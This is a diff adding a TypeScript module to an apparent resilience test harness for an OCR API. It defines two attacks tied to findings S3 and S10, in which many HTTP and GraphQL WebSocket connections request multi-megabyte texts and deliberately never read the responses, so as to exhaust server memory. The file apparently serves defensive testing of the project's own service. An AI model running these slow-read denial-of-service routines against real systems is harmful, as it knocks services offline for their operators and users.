@@ -1,0 +1,37 @@
+import { WebSocket } from 'ws';
+import type { Attack } from '../attack.ts';
+import { holdSockets } from '../held-sockets.ts';
+import { aborted, persist } from '../persist.ts';
+import { storeText } from '../stored-requests.ts';
+import { withClient } from '../with-client.ts';
+import { openSocket } from './open-socket.ts';
+
+const TEXT_CHARACTERS = 4_800_000;
+
+export const unreadAnswers: Attack = {
+  name: 'sixty connections that ask for a text of five megabytes and read nothing',
+  finding: 'S3',
+  run: async ({ url, databaseUrl, funded }, signal) => {
+    const id = await withClient(databaseUrl, (client) => storeText(client, funded.accountId, TEXT_CHARACTERS));
+    const head = `GET /v1/ocr/${id} HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${funded.apiKey}\r\n\r\n`;
+    await holdSockets(url, 60, head, signal, { reading: false });
+  },
+};
+
+/** More calls on each than would fit into memory were they all answered. */
+export const unreadSockets: Attack = {
+  name: 'twenty GraphQL sockets that ask for such texts and read nothing',
+  finding: 'S10',
+  run: async ({ url, databaseUrl, funded }, signal) => {
+    const id = await withClient(databaseUrl, (client) => storeText(client, funded.accountId, TEXT_CHARACTERS));
+    const query = `{ ocrRequest(id: "${id}") { extractedText } }`;
+    await persist(signal, { width: 20, pauseMs: 500 }, async () => {
+      const socket = await openSocket(url, funded.apiKey, signal);
+      socket.pause();
+      for (let n = 0; n < 20 && socket.readyState === WebSocket.OPEN; n++)
+        socket.send(JSON.stringify({ type: 'subscribe', id: String(n), payload: { query } }));
+      await aborted(AbortSignal.any([signal, AbortSignal.timeout(5000)])); // one that does not read does not see its end
+      socket.terminate();
+    });
+  },
+};
